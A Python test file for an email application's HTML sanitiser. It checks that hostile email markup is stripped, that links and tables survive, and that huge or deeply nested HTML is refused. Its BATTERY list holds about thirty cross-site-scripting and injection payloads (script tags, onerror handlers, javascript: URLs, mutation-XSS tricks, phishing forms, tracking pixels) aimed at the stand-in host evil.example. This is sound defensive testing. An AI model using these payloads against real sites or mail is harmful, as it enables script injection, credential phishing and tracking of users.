"""What is left of a stranger's HTML, and what becomes of HTML that nobody can take apart."""

from __future__ import annotations

import asyncio
import re

import pytest

from mailkeep_api.console.cleaning import clean
from mailkeep_api.console.sanitising import LIMIT, sanitised

HARMLESS = re.compile(
    r"</?[a-z][a-z0-9]*(?: (?:href=\"(?:https?:|mailto:)[^\"]*\""
    r"|(?:dir|lang|title|start|colspan|rowspan|scope)=\"[^\"]*\""
    r"|rel=\"noopener noreferrer nofollow\"|target=\"_blank\"))*>"
)
DEEP = "<div>" * 300_000
# Each paragraph opens all of these anew (WHATWG HTML section 13.2.4.3).
WIDE = "<p>" + "".join(f"<font color={number}>" for number in range(5000)) + "<p>x" * 400_000
BATTERY = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.gif width=1 height=1>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='/oauth/authorize?provider=gmail'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='vbscript:x' onclick=alert(1) target=_top rel=opener>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=key><button>Sign in</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/><link rel=stylesheet href=x>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example)'>x</div>",
    "<p id=alert class=top name=x data-ask='DELETE /api/emails/1'>x</p>",
    "<button data-ask='POST /oauth/logout'>x</button>",
    "<video src=x poster=x></video><audio src=x></audio><picture><source srcset=x></picture>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "</article></main><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)",
    "<table background=https://evil.example><td background=x>x",
]


@pytest.mark.parametrize("html", BATTERY)
def test_nothing_is_left_but_harmless_tags(html: str) -> None:
    cleaned = clean(f"{html}<p>end</p>")
    left = HARMLESS.sub("", cleaned)
    assert "<" not in left, cleaned
    for word in ("src=", "style=", "onerror=alert(1)>", "javascript:", "data-ask", "evil.example/x"):
        assert word not in re.sub(r"&lt;.*?&gt;|title=\"[^\"]*\"", "", cleaned)


def test_structure_and_links_stay() -> None:
    html = '<h1>News</h1><table><tr><td colspan="2"><a href="https://a.example/?b=1">x</a></td></tr></table>'
    cleaned = clean(html)
    assert "<h1>News</h1>" in cleaned
    assert 'colspan="2"' in cleaned
    assert 'href="https://a.example/?b=1"' in cleaned
    assert 'rel="noopener noreferrer nofollow"' in cleaned


async def test_it_is_done_in_a_process_of_its_own() -> None:
    assert await sanitised("<p>Grüße<script>x</script></p>") == "<p>Grüße</p>"


async def test_html_that_is_too_large_is_not_shown() -> None:
    assert await sanitised("x" * (LIMIT + 1)) is None


@pytest.mark.parametrize("html", [DEEP, WIDE], ids=["deep", "wide"])
async def test_html_that_costs_too_much_is_not_shown_and_holds_nobody_up(html: str) -> None:
    working = asyncio.create_task(sanitised(html))
    assert await sanitised("<b>x</b>") == "<b>x</b>"
    assert await working is None
